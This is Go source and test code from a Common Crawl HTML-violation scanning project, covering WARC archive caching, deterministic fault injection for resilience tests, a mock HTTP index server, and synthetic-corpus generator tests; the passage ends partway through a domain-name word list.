func (a *DiskArchive) Crawls() []string { return append([]string(nil), a.crawls...) }

// Query looks the domain up in the crawl's CDX index.
func (a *DiskArchive) Query(_ context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	ix, ok := a.indexes[crawl]
	if !ok {
		// Same contract as the synthetic archive: a nonexistent snapshot
		// is a configuration error and must stop a crawl run outright.
		return nil, resilience.Fatal(fmt.Errorf("commoncrawl: unknown crawl %q", crawl))
	}
	return ix.LookupPrefix(domain, limit), nil
}

// ReadRange preads from the named WARC file. Filenames in disk indexes are
// "<crawl>/<segment>.warc.gz", relative to root.
func (a *DiskArchive) ReadRange(_ context.Context, filename string, offset, length int64) ([]byte, error) {
	if strings.Contains(filename, "..") {
		// Path traversal in an index entry is data corruption, not
		// weather: never retry it.
		return nil, resilience.Permanent(fmt.Errorf("commoncrawl: invalid filename %q", filename))
	}
	f, release, err := a.openShared(filename)
	if err != nil {
		return nil, err
	}
	defer release()
	buf := make([]byte, length)
	if _, err := f.ReadAt(buf, offset); err != nil {
		return nil, fmt.Errorf("commoncrawl: read %s@%d+%d: %w", filename, offset, length, err)
	}
	return buf, nil
}

// openShared hands out a cached descriptor with its refcount bumped;
// the returned release must be called once the read is done. Opening
// happens outside the lock, with the usual lose-the-race close.
func (a *DiskArchive) openShared(filename string) (*os.File, func(), error) {
	a.mu.Lock()
	if e, ok := a.files[filename]; ok {
		a.retainLocked(e)
		a.mu.Unlock()
		return e.f, func() { a.releaseEntry(e) }, nil
	}
	a.mu.Unlock()
	f, err := os.Open(filepath.Join(a.root, filepath.FromSlash(filename)))
	if err != nil {
		return nil, nil, err
	}
	a.mu.Lock()
	if e, raced := a.files[filename]; raced {
		a.retainLocked(e)
		a.mu.Unlock()
		_ = f.Close()
		return e.f, func() { a.releaseEntry(e) }, nil
	}
	a.evictIdleLocked()
	e := &fdEntry{f: f}
	a.retainLocked(e)
	a.files[filename] = e
	a.mu.Unlock()
	return f, func() { a.releaseEntry(e) }, nil
}

func (a *DiskArchive) retainLocked(e *fdEntry) {
	e.refs++
	a.tick++
	e.stamp = a.tick
}

func (a *DiskArchive) releaseEntry(e *fdEntry) {
	a.mu.Lock()
	e.refs--
	a.mu.Unlock()
}

// evictIdleLocked closes least-recently-used idle descriptors until
// the budget has room for one more. Entries with reads in flight are
// never touched; if every entry is busy the cache simply runs over
// budget until reads drain. Caller holds a.mu.
func (a *DiskArchive) evictIdleLocked() {
	for len(a.files) >= a.maxOpen {
		var victimKey string
		var victim *fdEntry
		for k, e := range a.files {
			if e.refs > 0 {
				continue
			}
			if victim == nil || e.stamp < victim.stamp {
				victim, victimKey = e, k
			}
		}
		if victim == nil {
			return
		}
		delete(a.files, victimKey)
		_ = victim.f.Close()
	}
}
