package commoncrawl

import (
	"context"
	"sync"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/obs"
)

// TieredArchive puts a byte-budgeted in-memory LRU in front of any
// Archive, with single-flight coalescing so concurrent misses on the
// same range trigger exactly one backend read. The intended stack is
//
//	TieredArchive → instrumentedArchive → DiskArchive or Client
//
// so the inner layer's read counters measure true backend traffic and
// this layer's hit/miss counters measure cache effectiveness.
//
// Cached slices are shared between callers and with the backend's own
// buffers; the contract is the same as DiskArchive's: treat returned
// bytes as read-only. Every consumer in this repo does (warc decoding
// reads, htmlparse.Preprocess copies).
//
// Errors are never cached: a transient backend fault (timeout, chaos
// injection) clears on the next call instead of poisoning the key, so
// the crawler's retry/budget machinery keeps working unchanged.
type TieredArchive struct {
	inner  Archive
	budget int64

	mu       sync.Mutex
	entries  map[readKey]*cacheEntry
	flights  map[readKey]*flightCall
	lruHead  *cacheEntry // most recently used
	lruTail  *cacheEntry // next eviction victim
	resident int64

	// Metrics are nil until Instrument is called; every touch goes
	// through the nil-safe helpers below.
	hits      *obs.Counter
	misses    *obs.Counter
	coalesced *obs.Counter
	evictions *obs.Counter
	residentG *obs.Gauge
}

// readKey identifies one ranged read. Identical triples always denote
// identical bytes (WARC files are immutable once written), which is
// what makes both caching and coalescing sound.
type readKey struct {
	filename       string
	offset, length int64
}

type cacheEntry struct {
	key        readKey
	data       []byte
	prev, next *cacheEntry
}

// flightCall is one in-progress backend read. Waiters block on done;
// data/err are published before done closes, so the channel's
// happens-before edge makes them safe to read without the lock.
type flightCall struct {
	done chan struct{}
	data []byte
	err  error
}

// DefaultCacheBudget is the NewTiered byte budget when none is given.
const DefaultCacheBudget = 64 << 20

// NewTiered wraps inner with a cache of at most budget resident bytes
// (DefaultCacheBudget if budget <= 0). Entries larger than the whole
// budget are served but never cached.
func NewTiered(inner Archive, budget int64) *TieredArchive {
	if budget <= 0 {
		budget = DefaultCacheBudget
	}
	return &TieredArchive{
		inner:   inner,
		budget:  budget,
		entries: make(map[readKey]*cacheEntry),
		flights: make(map[readKey]*flightCall),
	}
}

// Instrument registers the cache metrics on reg and returns the
// archive for chaining:
//
//	commoncrawl_cache_hits_total
//	commoncrawl_cache_misses_total
//	commoncrawl_cache_coalesced_total
//	commoncrawl_cache_evictions_total
//	commoncrawl_cache_resident_bytes
func (a *TieredArchive) Instrument(reg *obs.Registry) *TieredArchive {
	a.hits = reg.Counter("commoncrawl_cache_hits_total")
	a.misses = reg.Counter("commoncrawl_cache_misses_total")
	a.coalesced = reg.Counter("commoncrawl_cache_coalesced_total")
	a.evictions = reg.Counter("commoncrawl_cache_evictions_total")
	a.residentG = reg.Gauge("commoncrawl_cache_resident_bytes")
	return a
}

var _ Archive = (*TieredArchive)(nil)

// Crawls passes through to the inner archive.
func (a *TieredArchive) Crawls() []string { return a.inner.Crawls() }

// Query passes through to the inner archive. Index queries are cheap
// relative to ranged reads and already deduplicated by the crawler's
// per-domain scheduling, so only reads are cached.
func (a *TieredArchive) Query(ctx context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	return a.inner.Query(ctx, crawl, domain, limit)
}

// ReadRange serves from cache, joins an in-flight read, or performs
// the backend read itself — in that order.
func (a *TieredArchive) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	key := readKey{filename: filename, offset: offset, length: length}

	a.mu.Lock()
	if e, ok := a.entries[key]; ok {
		a.moveToFront(e)
		data := e.data
		a.mu.Unlock()
		count(a.hits)
		return data, nil
	}
	if fl, ok := a.flights[key]; ok {
		a.mu.Unlock()
		count(a.coalesced)
		select {
		case <-fl.done:
			return fl.data, fl.err
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	fl := &flightCall{done: make(chan struct{})}
	a.flights[key] = fl
	a.mu.Unlock()

	count(a.misses)
	data, err := a.inner.ReadRange(ctx, filename, offset, length)
	fl.data, fl.err = data, err

	a.mu.Lock()
	delete(a.flights, key)
	if err == nil {
		a.admit(key, data)
	}
	a.mu.Unlock()
	close(fl.done)
	return data, err
}

// Resident returns the cached byte total (for tests and debugging).
func (a *TieredArchive) Resident() int64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.resident
}

// Len returns the number of cached entries.
func (a *TieredArchive) Len() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.entries)
}

// admit inserts a successful read and evicts from the LRU tail until
// the budget holds again. Caller holds a.mu.
func (a *TieredArchive) admit(key readKey, data []byte) {
	size := int64(len(data))
	if size > a.budget {
		return // would evict everything and still not fit
	}
	if _, ok := a.entries[key]; ok {
		return // a racing flight already admitted it
	}
	e := &cacheEntry{key: key, data: data}
	a.entries[key] = e
	a.pushFront(e)
	a.resident += size
	for a.resident > a.budget && a.lruTail != nil {
		victim := a.lruTail
		a.unlink(victim)
		delete(a.entries, victim.key)
		a.resident -= int64(len(victim.data))
		count(a.evictions)
	}
	gaugeSet(a.residentG, a.resident)
}

// pushFront links e as most recently used. Caller holds a.mu.
func (a *TieredArchive) pushFront(e *cacheEntry) {
	e.prev = nil
	e.next = a.lruHead
	if a.lruHead != nil {
		a.lruHead.prev = e
	}
	a.lruHead = e
	if a.lruTail == nil {
		a.lruTail = e
	}
}

// unlink removes e from the LRU list. Caller holds a.mu.
func (a *TieredArchive) unlink(e *cacheEntry) {
	if e.prev != nil {
		e.prev.next = e.next
	} else {
		a.lruHead = e.next
	}
	if e.next != nil {
		e.next.prev = e.prev
	} else {
		a.lruTail = e.prev
	}
	e.prev, e.next = nil, nil
}

// moveToFront marks e most recently used. Caller holds a.mu.
func (a *TieredArchive) moveToFront(e *cacheEntry) {
	if a.lruHead == e {
		return
	}
	a.unlink(e)
	a.pushFront(e)
}

func count(c *obs.Counter) {
	if c != nil {
		c.Inc()
	}
}

func gaugeSet(g *obs.Gauge, v int64) {
	if g != nil {
		g.Set(v)
	}
}
