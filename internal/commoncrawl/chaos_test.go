package commoncrawl

import (
	"bytes"
	"context"
	"errors"
	"sync"
	"testing"

	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/resilience"
)

func chaosTestArchive(t *testing.T) *SyntheticArchive {
	t.Helper()
	return NewSynthetic(corpus.New(corpus.Config{Seed: 7, Domains: 40, MaxPages: 3}))
}

func TestChaosZeroConfigIsTransparent(t *testing.T) {
	arch := chaosTestArchive(t)
	chaos := NewChaos(arch, ChaosConfig{})
	crawl := arch.Crawls()[0]
	for _, d := range arch.Generator().Universe()[:10] {
		recs, err := chaos.Query(context.Background(), crawl, d, 3)
		if err != nil {
			t.Fatalf("zero-config chaos failed a query: %v", err)
		}
		for _, r := range recs {
			want, err := arch.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
			if err != nil {
				t.Fatal(err)
			}
			got, err := chaos.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
			if err != nil || !bytes.Equal(got, want) {
				t.Fatalf("zero-config chaos altered bytes for %s: %v", r.URL, err)
			}
		}
	}
	if s := chaos.Stats(); s != (ChaosStats{}) {
		t.Fatalf("zero-config chaos injected faults: %+v", s)
	}
}

func TestChaosTransientFaultsClearOnRetry(t *testing.T) {
	arch := chaosTestArchive(t)
	chaos := NewChaos(arch, ChaosConfig{Seed: 3, TransientRate: 1}) // every key faults once
	crawl := arch.Crawls()[0]
	d := arch.Generator().Universe()[0]
	if _, err := chaos.Query(context.Background(), crawl, d, 3); !errors.Is(err, ErrChaosTransient) {
		t.Fatalf("first attempt: %v, want transient fault", err)
	}
	if _, err := chaos.Query(context.Background(), crawl, d, 3); err != nil {
		t.Fatalf("second attempt must clear: %v", err)
	}
	if got := resilience.Classify(ErrChaosTransient); got != resilience.ClassRetryable {
		t.Fatalf("transient fault classifies %v", got)
	}
}

func TestChaosPermanentFaultsNeverClear(t *testing.T) {
	arch := chaosTestArchive(t)
	chaos := NewChaos(arch, ChaosConfig{Seed: 3, PermanentRate: 1})
	crawl := arch.Crawls()[0]
	d := arch.Generator().Universe()[0]
	for i := 0; i < 3; i++ {
		_, err := chaos.Query(context.Background(), crawl, d, 3)
		if !errors.Is(err, ErrChaosPermanent) {
			t.Fatalf("attempt %d: %v, want permanent fault", i, err)
		}
		if got := resilience.Classify(err); got != resilience.ClassPermanent {
			t.Fatalf("permanent fault classifies %v", got)
		}
	}
}

func TestChaosDeterministicAcrossRunsAndOrdering(t *testing.T) {
	cfg := ChaosConfig{Seed: 11, TransientRate: 0.3, PermanentRate: 0.1, TruncateRate: 0.2, GarbageRate: 0.2}
	arch := chaosTestArchive(t)
	crawl := arch.Crawls()[0]
	domains := arch.Generator().Universe()

	// outcome fingerprint of a (first-attempt) sweep over every domain.
	sweep := func(c *ChaosArchive, order []string) map[string]string {
		out := make(map[string]string)
		for _, d := range order {
			recs, err := c.Query(context.Background(), crawl, d, 3)
			if err != nil {
				out["q|"+d] = err.Error()
				continue
			}
			out["q|"+d] = "ok"
			for _, r := range recs {
				got, err := c.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
				if err != nil {
					out[r.URL] = err.Error()
					continue
				}
				want, _ := arch.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
				switch {
				case bytes.Equal(got, want):
					out[r.URL] = "ok"
				case len(got) < len(want):
					out[r.URL] = "truncated"
				default:
					out[r.URL] = "garbage"
				}
			}
		}
		return out
	}

	a := sweep(NewChaos(arch, cfg), domains)
	reversed := append([]string(nil), domains...)
	for i, j := 0, len(reversed)-1; i < j; i, j = i+1, j-1 {
		reversed[i], reversed[j] = reversed[j], reversed[i]
	}
	b := sweep(NewChaos(arch, cfg), reversed)
	if len(a) != len(b) {
		t.Fatalf("sweeps differ in size: %d vs %d", len(a), len(b))
	}
	for k, v := range a {
		if b[k] != v {
			t.Fatalf("outcome for %s differs across ordering: %q vs %q", k, v, b[k])
		}
	}

	// Different seed → different fault pattern (overwhelmingly likely).
	cfg2 := cfg
	cfg2.Seed = 12
	c2 := sweep(NewChaos(arch, cfg2), domains)
	same := true
	for k, v := range a {
		if c2[k] != v {
			same = false
			break
		}
	}
	if same {
		t.Fatal("changing the seed changed nothing — injection is not seed-driven")
	}
}

func TestChaosConcurrentAccess(t *testing.T) {
	arch := chaosTestArchive(t)
	chaos := NewChaos(arch, ChaosConfig{Seed: 5, TransientRate: 0.5, PermanentRate: 0.1, LatencyRate: 0.2, Latency: 1})
	crawl := arch.Crawls()[0]
	domains := arch.Generator().Universe()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, d := range domains {
				recs, err := chaos.Query(context.Background(), crawl, d, 3)
				if err != nil {
					continue
				}
				for _, r := range recs {
					chaos.ReadRange(context.Background(), r.Filename, r.Offset, r.Length)
				}
			}
		}()
	}
	wg.Wait()
	if s := chaos.Stats(); s.Transient == 0 {
		t.Fatalf("expected transient injections at rate 0.5: %+v", s)
	}
}
