package commoncrawl

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"

	"github.com/hvscan/hvscan/internal/resilience"
)

// Server exposes an Archive over HTTP with the access shape of the real
// Common Crawl infrastructure:
//
//	GET /crawls                                  -> JSON array of crawl IDs
//	GET /cc-index?crawl=ID&url=domain&limit=N    -> CDXJ lines
//	GET /data/<filename>   (Range: bytes=a-b)    -> raw WARC bytes
//
// The index endpoint mirrors index.commoncrawl.org, the data endpoint the
// S3 bucket's ranged GETs.
type Server struct {
	archive Archive
	mux     *http.ServeMux
}

// NewServer wraps an archive.
func NewServer(a Archive) *Server {
	s := &Server{archive: a, mux: http.NewServeMux()}
	s.mux.HandleFunc("GET /crawls", s.handleCrawls)
	s.mux.HandleFunc("GET /cc-index", s.handleIndex)
	s.mux.HandleFunc("GET /data/", s.handleData)
	return s
}

// ServeHTTP implements http.Handler.
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) { s.mux.ServeHTTP(w, r) }

func (s *Server) handleCrawls(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	if err := json.NewEncoder(w).Encode(s.archive.Crawls()); err != nil {
		// Connection-level failure; nothing further to do.
		return
	}
}

func (s *Server) handleIndex(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	crawl, domain := q.Get("crawl"), q.Get("url")
	if crawl == "" || domain == "" {
		http.Error(w, "crawl and url parameters required", http.StatusBadRequest)
		return
	}
	limit := 0
	if ls := q.Get("limit"); ls != "" {
		n, err := strconv.Atoi(ls)
		if err != nil || n < 0 {
			http.Error(w, "bad limit", http.StatusBadRequest)
			return
		}
		limit = n
	}
	recs, err := s.archive.Query(r.Context(), crawl, domain, limit)
	if err != nil {
		http.Error(w, err.Error(), http.StatusNotFound)
		return
	}
	w.Header().Set("Content-Type", "text/x-cdxj")
	for _, rec := range recs {
		if _, err := fmt.Fprintln(w, rec.Line()); err != nil {
			return
		}
	}
}

func (s *Server) handleData(w http.ResponseWriter, r *http.Request) {
	filename := strings.TrimPrefix(r.URL.Path, "/data/")
	rng := r.Header.Get("Range")
	offset, length, err := parseRange(rng)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	data, err := s.archive.ReadRange(r.Context(), filename, offset, length)
	if err != nil {
		http.Error(w, err.Error(), http.StatusNotFound)
		return
	}
	w.Header().Set("Content-Type", "application/octet-stream")
	w.Header().Set("Content-Range",
		fmt.Sprintf("bytes %d-%d/*", offset, offset+length-1))
	w.WriteHeader(http.StatusPartialContent)
	_, _ = w.Write(data)
}

// parseRange decodes a single "bytes=a-b" range (inclusive bounds, as S3
// and HTTP use). A malformed header is the client's bug, never transient
// weather, so every parse failure carries a permanent mark.
func parseRange(h string) (offset, length int64, err error) {
	spec, ok := strings.CutPrefix(h, "bytes=")
	if !ok {
		return 0, 0, resilience.Permanent(fmt.Errorf("missing or unsupported Range header %q", h))
	}
	a, b, ok := strings.Cut(spec, "-")
	if !ok {
		return 0, 0, resilience.Permanent(fmt.Errorf("bad Range %q", h))
	}
	start, err := strconv.ParseInt(a, 10, 64)
	if err != nil {
		return 0, 0, resilience.Permanent(fmt.Errorf("bad Range start %q", a))
	}
	end, err := strconv.ParseInt(b, 10, 64)
	if err != nil || end < start {
		return 0, 0, resilience.Permanent(fmt.Errorf("bad Range end %q", b))
	}
	return start, end - start + 1, nil
}
