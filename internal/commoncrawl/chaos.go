package commoncrawl

import (
	"context"
	"errors"
	"fmt"
	"hash/fnv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/resilience"
)

// ChaosArchive wraps an Archive and injects the fault profile of the
// real Common Crawl access path: transient errors that clear on retry,
// permanent errors that never clear, latency spikes, truncated WARC
// bodies, and garbage bytes. Every decision is a pure function of
// (seed, operation key, fault kind), so a run is deterministic
// regardless of worker scheduling — the property the crawler's chaos
// tests rely on to compare interrupted-and-resumed runs against
// uninterrupted ones.
type ChaosArchive struct {
	inner Archive
	cfg   ChaosConfig

	mu       sync.Mutex
	attempts map[string]int // per-key call counts, for transient faults

	stats chaosCounters
}

// ChaosConfig sets the injection rates (each in [0,1], fraction of
// operation keys affected). The zero value injects nothing.
type ChaosConfig struct {
	// Seed decorrelates runs; the same seed reproduces the same faults.
	Seed int64
	// TransientRate is the fraction of operations that fail on their
	// first attempt and succeed on retry (injected on Query and
	// ReadRange).
	TransientRate float64
	// PermanentRate is the fraction of operations that always fail with
	// a permanent (404-style) error.
	PermanentRate float64
	// LatencyRate is the fraction of operations delayed by Latency
	// before proceeding.
	LatencyRate float64
	// Latency is the injected delay (default 2ms when LatencyRate > 0).
	Latency time.Duration
	// TruncateRate is the fraction of ReadRange results cut short —
	// the archive's mid-record disconnects.
	TruncateRate float64
	// GarbageRate is the fraction of ReadRange results whose bytes are
	// scrambled — proxy mangling, bad disks, bit rot.
	GarbageRate float64
}

// ChaosStats counts injected faults, for test assertions that a chaotic
// run actually was chaotic.
type ChaosStats struct {
	Transient uint64
	Permanent uint64
	Latency   uint64
	Truncated uint64
	Garbage   uint64
}

type chaosCounters struct {
	transient, permanent, latency, truncated, garbage atomic.Uint64
}

// ErrChaosTransient is the injected transient fault (classifies as
// retryable by default).
var ErrChaosTransient = errors.New("chaos: injected transient fault")

// ErrChaosPermanent is the root of injected permanent faults; the
// wrapped error carries a resilience.Permanent mark.
var ErrChaosPermanent = errors.New("chaos: injected permanent fault")

// NewChaos wraps inner with fault injection.
func NewChaos(inner Archive, cfg ChaosConfig) *ChaosArchive {
	if cfg.Latency <= 0 {
		cfg.Latency = 2 * time.Millisecond
	}
	return &ChaosArchive{inner: inner, cfg: cfg, attempts: make(map[string]int)}
}

var _ Archive = (*ChaosArchive)(nil)

// Stats snapshots the injected-fault counters.
func (c *ChaosArchive) Stats() ChaosStats {
	return ChaosStats{
		Transient: c.stats.transient.Load(),
		Permanent: c.stats.permanent.Load(),
		Latency:   c.stats.latency.Load(),
		Truncated: c.stats.truncated.Load(),
		Garbage:   c.stats.garbage.Load(),
	}
}

// roll maps (seed, kind, key) to a uniform [0,1) float, deterministically.
func (c *ChaosArchive) roll(kind, key string) float64 {
	h := fnv.New64a()
	fmt.Fprintf(h, "%d|%s|%s", c.cfg.Seed, kind, key)
	return float64(h.Sum64()>>11) / float64(1<<53)
}

// attempt counts calls per key (1-based return).
func (c *ChaosArchive) attempt(key string) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.attempts[key]++
	return c.attempts[key]
}

// inject runs the common Query/ReadRange fault schedule for key and
// returns a non-nil error when the call should fail.
func (c *ChaosArchive) inject(ctx context.Context, key string) error {
	if c.cfg.LatencyRate > 0 && c.roll("latency", key) < c.cfg.LatencyRate {
		c.stats.latency.Add(1)
		if !resilience.Sleep(ctx, c.cfg.Latency) {
			// Cancelled mid-spike: surface the caller's own reason.
			return ctx.Err()
		}
	}
	if c.cfg.PermanentRate > 0 && c.roll("permanent", key) < c.cfg.PermanentRate {
		c.stats.permanent.Add(1)
		return resilience.Permanent(fmt.Errorf("%w: %s", ErrChaosPermanent, key))
	}
	if c.cfg.TransientRate > 0 && c.roll("transient", key) < c.cfg.TransientRate {
		if c.attempt(key) == 1 {
			c.stats.transient.Add(1)
			return fmt.Errorf("%w: %s", ErrChaosTransient, key)
		}
	}
	return nil
}

// Crawls passes through: listing snapshots is metadata, not I/O worth
// injecting on.
func (c *ChaosArchive) Crawls() []string { return c.inner.Crawls() }

// Query injects transient/permanent faults and latency on the index
// path.
func (c *ChaosArchive) Query(ctx context.Context, crawl, domain string, limit int) ([]*cdx.Record, error) {
	if err := c.inject(ctx, "q|"+crawl+"|"+domain); err != nil {
		return nil, err
	}
	return c.inner.Query(ctx, crawl, domain, limit)
}

// ReadRange injects the full schedule — errors, latency, truncation,
// and garbage — on the data path.
func (c *ChaosArchive) ReadRange(ctx context.Context, filename string, offset, length int64) ([]byte, error) {
	key := fmt.Sprintf("r|%s|%d", filename, offset)
	if err := c.inject(ctx, key); err != nil {
		return nil, err
	}
	data, err := c.inner.ReadRange(ctx, filename, offset, length)
	if err != nil {
		return nil, err
	}
	if c.cfg.TruncateRate > 0 && c.roll("truncate", key) < c.cfg.TruncateRate {
		c.stats.truncated.Add(1)
		cut := append([]byte(nil), data[:len(data)/2]...)
		return cut, nil
	}
	if c.cfg.GarbageRate > 0 && c.roll("garbage", key) < c.cfg.GarbageRate {
		c.stats.garbage.Add(1)
		bad := append([]byte(nil), data...)
		// Deterministic scramble: flip bits with a key-derived pattern.
		x := byte(0xA5 ^ uint8(c.roll("garbage-pat", key)*255))
		for i := range bad {
			bad[i] ^= x + byte(i)
		}
		return bad, nil
	}
	return data, nil
}
