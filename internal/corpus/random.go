package corpus

import (
	"strconv"
)

// Deterministic keyed randomness. Every stochastic decision in the
// generator is a pure function of (seed, key parts), so the same
// configuration always renders byte-identical archives — the property
// that makes the study reproducible and the CDX offsets stable.

const (
	fnvOffset = 14695981039346656037
	fnvPrime  = 1099511628211
)

// hashKey folds the seed and key parts with FNV-1a, then finalizes with a
// splitmix64 round for avalanche.
func hashKey(seed int64, parts ...string) uint64 {
	h := uint64(fnvOffset) ^ uint64(seed)
	h *= fnvPrime
	for _, p := range parts {
		for i := 0; i < len(p); i++ {
			h ^= uint64(p[i])
			h *= fnvPrime
		}
		h ^= 0x1F // part separator
		h *= fnvPrime
	}
	// splitmix64 finalizer
	h += 0x9E3779B97F4A7C15
	h = (h ^ (h >> 30)) * 0xBF58476D1CE4E5B9
	h = (h ^ (h >> 27)) * 0x94D049BB133111EB
	return h ^ (h >> 31)
}

// uniform maps a key to [0,1).
func uniform(seed int64, parts ...string) float64 {
	return float64(hashKey(seed, parts...)>>11) / float64(1<<53)
}

// pick returns an index in [0,n).
func pick(seed int64, n int, parts ...string) int {
	if n <= 0 {
		return 0
	}
	return int(hashKey(seed, parts...) % uint64(n))
}

func itoa(i int) string { return strconv.Itoa(i) }
