package corpus

import (
	"math"
	"testing"

	"github.com/hvscan/hvscan/internal/core"
)

// TestPlantedViolationsAreDetected is the generator↔checker contract: on
// every generated page, the checker must find every planted rule (no false
// negatives), and any extra detections must be explainable cross-firings
// (e.g. a base both in-body and after-URL).
func TestPlantedViolationsAreDetected(t *testing.T) {
	g := New(Config{Seed: 7, Domains: 160, MaxPages: 4})
	checker := core.NewChecker()
	snaps := []Snapshot{Snapshots[0], Snapshots[7]}
	pages := 0
	for _, snap := range snaps {
		for _, d := range g.Universe() {
			n := g.PageCount(d, snap)
			if n > 3 {
				n = 3
			}
			if !g.Succeeds(d, snap) {
				continue
			}
			for i := 0; i < n; i++ {
				status, ct, body := g.PageHTTP(d, snap, i)
				if status != 200 || ct[:9] != "text/html" {
					continue
				}
				rep, err := checker.Check(body)
				if err != nil {
					continue // non-UTF-8 page, filtered by design
				}
				pages++
				for _, rule := range g.PlantedRules(d, snap, i) {
					if !rep.Violated(rule) {
						t.Errorf("%s %s page %d: planted %s not detected\n%s",
							d, snap.ID, i, rule, body)
					}
				}
				for _, id := range rep.ViolatedIDs() {
					if !plantedOrExplained(g, d, snap, i, id) {
						t.Errorf("%s %s page %d: unexpected detection %s",
							d, snap.ID, i, id)
					}
				}
			}
		}
	}
	if pages < 300 {
		t.Fatalf("only %d pages exercised", pages)
	}
}

func plantedOrExplained(g *Generator, d string, snap Snapshot, i int, id string) bool {
	planted := map[string]bool{}
	for _, r := range g.PlantedRules(d, snap, i) {
		planted[r] = true
	}
	if planted[id] {
		return true
	}
	switch id {
	case "DM2_2":
		// Two independent base payloads on one page add up to a multiple-
		// base violation.
		return planted["DM2_1"] && planted["DM2_3"]
	case "DM2_3":
		// A second base element after the first (which carries href).
		return planted["DM2_1"] || planted["DM2_2"]
	}
	return false
}

// TestCalibrationRates verifies the generated per-year domain rates track
// the paper-derived calibration table, using the generator's ground truth
// (cheap — no parsing).
func TestCalibrationRates(t *testing.T) {
	g := New(Config{Seed: 11, Domains: 6000, MaxPages: 2})
	for _, snap := range []Snapshot{Snapshots[0], Snapshots[4], Snapshots[7]} {
		counts := map[string]int{}
		total := 0
		for _, d := range g.Universe() {
			total++
			for _, r := range g.ActiveRules(d, snap) {
				counts[r]++
			}
		}
		for rule, rates := range violationRates {
			want := rates[snap.Index()]
			got := 100 * float64(counts[rule]) / float64(total)
			// Tolerance: 25% relative or 4 binomial standard deviations,
			// whichever is larger (the sample is only 6,000 domains).
			sigma := 100 * math.Sqrt(want/100*(1-want/100)/float64(total))
			tol := math.Max(want*0.25, 4*sigma)
			if math.Abs(got-want) > tol {
				t.Errorf("%s %s: planted rate %.2f%%, calibration %.2f%%",
					snap.ID, rule, got, want)
			}
		}
	}
}

// TestGeneratorDeterminism: equal seeds render byte-identical pages.
func TestGeneratorDeterminism(t *testing.T) {
	a := New(Config{Seed: 5, Domains: 50, MaxPages: 3})
	b := New(Config{Seed: 5, Domains: 50, MaxPages: 3})
	for i, d := range a.Universe() {
		if b.Universe()[i] != d {
			t.Fatalf("universe mismatch at %d", i)
		}
		p1 := a.PageHTML(d, Snapshots[3], 1)
		p2 := b.PageHTML(d, Snapshots[3], 1)
		if string(p1) != string(p2) {
			t.Fatalf("page mismatch for %s", d)
		}
	}
	c := New(Config{Seed: 6, Domains: 50, MaxPages: 3})
	same := 0
	for i, d := range a.Universe() {
		if c.Universe()[i] == d {
			same++
		}
	}
	if same == 50 {
		t.Fatal("different seeds produced identical universes")
	}
}

// TestTable2Shape verifies presence/success/page-count distributions match
// the Table 2 columns.
func TestTable2Shape(t *testing.T) {
	g := New(Config{Seed: 3, Domains: 8000, MaxPages: 100})
	everFound := 0
	for _, d := range g.Universe() {
		if g.foundEver(d) {
			everFound++
		}
	}
	if r := float64(everFound) / 8000; math.Abs(r-0.965) > 0.01 {
		t.Errorf("found-ever rate %.3f, want ~0.965", r)
	}
	for _, snap := range []Snapshot{Snapshots[0], Snapshots[6]} {
		present, pagesSum := 0, 0
		for _, d := range g.Universe() {
			if !g.Present(d, snap) {
				continue
			}
			present++
			pagesSum += g.PageCount(d, snap)
		}
		y := snap.Index()
		if r := float64(present) / 8000; math.Abs(r-presentRate[y]) > 0.015 {
			t.Errorf("%s: present rate %.3f, want ~%.3f", snap.ID, r, presentRate[y])
		}
		avg := float64(pagesSum) / float64(present)
		if math.Abs(avg-100*avgPagesFrac[y]) > 3 {
			t.Errorf("%s: avg pages %.1f, want ~%.1f", snap.ID, avg, 100*avgPagesFrac[y])
		}
	}
}

// TestYearlyViolatingTrend checks the headline Figure 9 shape on ground
// truth: the overall violating-domain rate decreases from ~74%-ish to
// ~68%-ish across the window.
func TestYearlyViolatingTrend(t *testing.T) {
	g := New(Config{Seed: 11, Domains: 6000, MaxPages: 2})
	rate := func(snap Snapshot) float64 {
		n := 0
		for _, d := range g.Universe() {
			if len(g.ActiveRules(d, snap)) > 0 {
				n++
			}
		}
		return 100 * float64(n) / 6000
	}
	first, last := rate(Snapshots[0]), rate(Snapshots[7])
	if first < 66 || first > 82 {
		t.Errorf("2015 rate %.1f%%, want ~74%%", first)
	}
	if last < 60 || last > 76 {
		t.Errorf("2022 rate %.1f%%, want ~68%%", last)
	}
	if last >= first {
		t.Errorf("trend not decreasing: %.1f -> %.1f", first, last)
	}
}
