package corpus

var nameAdjectives = []string{
	"blue", "rapid", "prime", "smart", "global", "bright", "urban",
	"north", "solid", "clear", "swift", "lucky", "fresh", "grand",
	"micro", "hyper", "metro", "alpha", "astro", "cyber", "daily",
	"early", "first", "giant", "happy", "inner", "jolly", "kudos",
	"lunar", "magic", "noble", "ocean", "pixel", "quick", "royal",
	"super", "terra", "ultra", "vivid", "wired", "young", "zesty",
	"open", "pure", "true", "wide", "deep", "high", "next", "core",
}

var nameNouns = []string{
	"market", "news", "shop", "cloud", "media", "games", "forum",
	"mail", "bank", "travel", "music", "video", "sport", "books",
	"tech", "data", "host", "store", "press", "radio", "photo",
	"search", "social", "stream", "weather", "health", "学园",
	"recipes", "maps", "jobs", "auto", "estate", "crypto", "wiki",
